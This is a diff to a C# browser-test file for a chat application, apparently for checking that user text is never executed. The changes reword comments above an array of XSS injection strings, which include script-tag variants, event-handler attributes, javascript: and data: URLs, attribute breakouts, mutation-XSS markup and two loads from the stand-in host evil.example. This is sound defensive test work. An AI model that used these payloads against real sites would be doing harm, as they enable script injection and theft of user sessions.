@@ -1,14 +1,14 @@
 namespace MarketChat.Tests.Browser;
 
 /// <summary>
-/// Texts that would call <c>pwn()</c> if any part of a page took them for more than text. The ways are those of the OWASP XSS filter
-/// evasion cheat sheet and PortSwigger's XSS cheat sheet; the texts are our own.
+/// Texts that would call <c>pwn()</c> if any part of a page treated them as more than text. The techniques are those of the OWASP XSS
+/// filter evasion cheat sheet and PortSwigger's XSS cheat sheet; the texts are our own.
 /// </summary>
 internal static class Injections
 {
     public static readonly string[] All =
     [
-        // Script elements, and ways to hide them.
+        // Script elements and obfuscated script elements.
         "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<ScRiPt >pwn()</ScRiPt >", "<script\t>pwn()</script\n>",
         "<script/x>pwn()</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,pwn()></script>",
         "<script type=module>pwn()</script>", "<script type=importmap>{}</script>", "<scr<script>ipt>pwn()</script>",
@@ -32,7 +32,7 @@ internal static class Injections
         "<svg><foreignObject><img src=x onerror=pwn()>", "<math><mtext><img src=x onerror=pwn()>",
         "<math href=javascript:pwn()>x</math>", "<svg><style><img src=x onerror=pwn()></style>",
 
-        // Other documents.
+        // Embedded documents.
         "<iframe src=javascript:pwn()>", "<iframe srcdoc=\"<script>parent.pwn()</script>\">", "<iframe onload=pwn()>",
         "<object data=javascript:pwn()>", "<object data=\"data:text/html,<script>pwn()</script>\">", "<embed src=javascript:pwn()>",
         "<frameset onload=pwn()>", "<applet code=x>", "<portal src=javascript:pwn()>", "<fencedframe>", "<base href=//evil.example/>",
@@ -40,7 +40,7 @@ internal static class Injections
         "<form action=javascript:pwn()><button autofocus>x", "<form id=composer><input name=payload>",
         "<button formaction=javascript:pwn()>x", "<isindex action=javascript:pwn()>", "<dialog open onclose=pwn()>x",
 
-        // Addresses.
+        // URLs.
         "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "\u0001javascript:pwn()", "javascript&colon;pwn()",
         "javascript://example.com/%0apwn()", "data:text/html,<script>pwn()</script>", "vbscript:pwn()",
         "https://example.com/\"onmouseover=\"pwn()",
@@ -49,7 +49,7 @@ internal static class Injections
         "https://example.com/`onmouseover=`pwn()", "<a href=javascript:pwn()>x</a>",
         "https://example.com/?q=\u2028pwn()", "http://\u0001.example/",
 
-        // Out of an attribute, a comment, a title, a text field.
+        // Breaking out of an attribute, a comment, a title, a text field.
         "\" onmouseover=\"pwn()", "' onmouseover='pwn()", "\" autofocus onfocus=\"pwn()\" x=\"", "' autofocus onfocus=pwn() x='",
         "\"><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", "`><img src=x onerror=pwn()>", "--><img src=x onerror=pwn()>",
         "--!><img src=x onerror=pwn()>",
@@ -57,7 +57,7 @@ internal static class Injections
         "</template><img src=x onerror=pwn()>", "</noscript><img src=x onerror=pwn()>", "]]><img src=x onerror=pwn()>",
         "\\\"><img src=x onerror=pwn()>", "x\" style=\"animation:a\" onanimationend=\"pwn()",
 
-        // Markup that changes its meaning when it is parsed twice.
+        // Markup that changes its meaning when it is parsed twice (mutation XSS).
         "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<math><mi><mglyph><style><!--</style><img src=x onerror=pwn()>",
         "<svg></p><style><a id=\"</style><img src=x onerror=pwn()>\">", "<template><script>pwn()</script></template>",
         "<table><td><form><table><tr><form><img src=x onerror=pwn()>", "<xmp><p title=\"</xmp><img src=x onerror=pwn()>\">", "<plaintext>",
